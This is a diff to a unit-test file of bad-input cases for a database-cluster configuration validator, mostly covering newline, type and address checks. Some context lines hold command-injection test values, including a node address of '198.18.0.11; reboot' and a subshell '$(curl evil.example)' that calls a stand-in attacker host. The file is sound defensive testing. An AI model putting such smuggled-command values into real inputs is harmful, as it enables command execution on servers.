@@ -4,6 +4,8 @@ bad_input_cases.py."""
 
 from tests.unit.clusters.web.bad_input_builders import (
     CLUSTERS,
+    CONTROL,
+    IP_ONLY,
     NAME_RULE,
     OTHER_FP,
     Bad,
@@ -44,14 +46,14 @@ CLUSTER_CASES = [
         "node-address-semicolon",
         CLUSTERS,
         with_node(0, address="198.18.0.11; reboot"),
-        "Enter an IP address or a host name",
+        "Enter the server's IP address",
         "nodes[0].address",
     ),
     Bad(
         "node-address-subshell",
         CLUSTERS,
         with_node(1, address="$(curl evil.example)"),
-        "Enter an IP address or a host name",
+        "Enter the server's IP address",
         "nodes[1].address",
     ),
     Bad(
@@ -239,6 +241,76 @@ CLUSTER_CASES = [
         cluster_body(http_frontends=[{"listen_port": 5432, "app_port": 8080}]),
         "Port 5432 is taken",
         "http_frontends[0]",
+    ),
+    # --- issue 17: "^...$" let a trailing line break through; host names failed setup later --
+    Bad("cluster-name-newline", CLUSTERS, cluster_body(name="pg1\n"), CONTROL, "name"),
+    Bad("node-name-newline", CLUSTERS, with_node(0, name="node1\n"), CONTROL, "nodes[0].name"),
+    Bad(
+        "database-user-newline",
+        CLUSTERS,
+        cluster_body(database={"name": "app", "user": "app\n"}),
+        "lower-case letters, digits and underscores",
+        "database.user",
+    ),
+    Bad(
+        "database-name-newline",
+        CLUSTERS,
+        cluster_body(database={"name": "app\n", "user": "app"}),
+        "lower-case letters, digits and underscores",
+        "database.name",
+    ),
+    Bad(
+        "application-unit-newline",
+        CLUSTERS,
+        cluster_body(application_unit="myapp.service\n"),
+        "Give a systemd service name",
+        "application_unit",
+    ),
+    Bad(
+        "check-path-newline",
+        CLUSTERS,
+        cluster_body(http_frontends=[{"listen_port": 80, "app_port": 8080, "check_path": "/up\n"}]),
+        "Give a path starting with /",
+        "http_frontends[0].check_path",
+    ),
+    Bad(
+        "apt-proxy-newline",
+        CLUSTERS,
+        cluster_body(apt_proxy="http://cache:3142\n"),
+        CONTROL,
+        "apt_proxy",
+    ),
+    # Client TLS is a JSON boolean: "false" or 0 is not guessed at (a string "false" is true).
+    *[
+        Bad(
+            f"require-client-tls-{i}",
+            CLUSTERS,
+            cluster_body(require_client_tls=value),
+            "Expected true or false",
+            "require_client_tls",
+        )
+        for i, value in enumerate(["false", 0, None, "on", []])
+    ],
+    Bad(
+        "node-address-newline",
+        CLUSTERS,
+        with_node(0, address="198.18.0.11\n"),
+        CONTROL,
+        "nodes[0].address",
+    ),
+    Bad(
+        "node-address-host-name",
+        CLUSTERS,
+        with_node(1, address="db2.example.com"),
+        IP_ONLY,
+        "nodes[1].address",
+    ),
+    Bad(
+        "node-address-scoped",
+        CLUSTERS,
+        with_node(1, address="fe80::1%eth0"),
+        "scoped address",
+        "nodes[1].address",
     ),
     Bad("json-nested-too-deep", CLUSTERS, "[" * 100_000 + "]" * 100_000, "nested too deeply"),
     Bad("json-not-an-object", CLUSTERS, "[1, 2]", "must be a JSON object"),
